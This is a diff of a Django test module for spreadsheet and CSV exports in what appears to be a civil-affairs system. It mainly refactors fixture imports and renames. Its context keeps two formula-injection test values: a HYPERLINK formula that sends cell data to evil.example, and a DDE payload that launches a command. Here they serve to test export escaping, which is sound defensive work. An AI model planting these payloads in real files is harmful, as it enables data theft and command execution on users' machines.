@@ -26,14 +26,9 @@ from minzheng.regions.models import Region
 from minzheng.targets import excel
 from minzheng.targets.models import Plan, SupervisionCase, WorkItem
 from minzheng.verification import imports as verification_imports
-
-from .test_eldercare_bookings import _book, _grade_two, _serve
-from .test_eldercare_fixtures import care, standards, this_month  # noqa: F401  (fixtures)
-from .test_payments_payroll import NOV, beneficiaries, run_month, world  # noqa: F401  (fixtures)
-from .test_targets_indicators import pinned_reported  # noqa: F401  (fixture)
-from .test_targets_plan import plan  # noqa: F401  (fixture)
-from .test_targets_scope import world as targets_world  # noqa: F401  (fixture)
-from .test_verification_import import GOOD, HEADER, write_csv
+from tests.fixtures.eldercare import book, grade_two, serve, this_month
+from tests.fixtures.payments import NOV, run_month
+from tests.fixtures.verification import GOOD, HEADER, write_csv
 
 NAME = '=HYPERLINK("http://evil.example/?x="&A1,"张三")'
 PLACE = "=cmd|' /C calc'!A0"
@@ -90,7 +85,8 @@ def test_people_export(people, users):
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_payroll_bank_file(world, beneficiaries, fmt):
+def test_payroll_bank_file(payments_world, payroll_beneficiaries, fmt):
+    world = payments_world
     approver = world["users"]["dongbao_approver"]
     run = run_month(world, NOV)
     PayrollLine.objects.filter(run=run).update(payee_name=NAME, bank_name=BANK)
@@ -111,9 +107,9 @@ def test_payroll_bank_file(world, beneficiaries, fmt):
         assert {r[8].data_type for r in book.worksheets[0].iter_rows(min_row=2)} == {"n"}
 
 
-def test_booking_settlement(care, users):  # noqa: F811
-    _grade_two(users, care["mother"])
-    booking = _serve(care, _book(care, users, care["items"]["cleaning"]))
+def test_booking_settlement(care, users):
+    grade_two(users, care["mother"])
+    booking = serve(care, book(care, users, care["items"]["cleaning"]))
     bookings.confirm(user=care["family"], booking=booking, rating=4)
     Person.objects.filter(pk=care["mother"].pk).update(name=NAME)
     Provider.objects.filter(pk=care["a"].pk).update(name=PLACE)
@@ -130,7 +126,8 @@ def test_booking_settlement(care, users):  # noqa: F811
 
 
 @pytest.mark.django_db
-def test_target_plan_export_and_its_round_trip(plan, users):  # noqa: F811
+def test_target_plan_export_and_its_round_trip(plan_2016, users):
+    plan = plan_2016
     Plan.objects.filter(pk=plan.pk).update(title=NAME)
     item = WorkItem.objects.filter(section__plan=plan).order_by("id").first()
     WorkItem.objects.filter(pk=item.pk).update(title=ITEM, description=NOTE)
@@ -144,7 +141,7 @@ def test_target_plan_export_and_its_round_trip(plan, users):  # noqa: F811
     assert items[ITEM]["description"] == NOTE
 
 
-def test_target_dashboard_export(client, targets_world):  # noqa: F811
+def test_target_dashboard_export(client, targets_world):
     Region.objects.filter(code="420802").update(name=PLACE)
     SupervisionCase.objects.filter(pk=targets_world["zx_case"].pk).update(title=NAME)
     client.login(username="leader", password="pass-word-123")
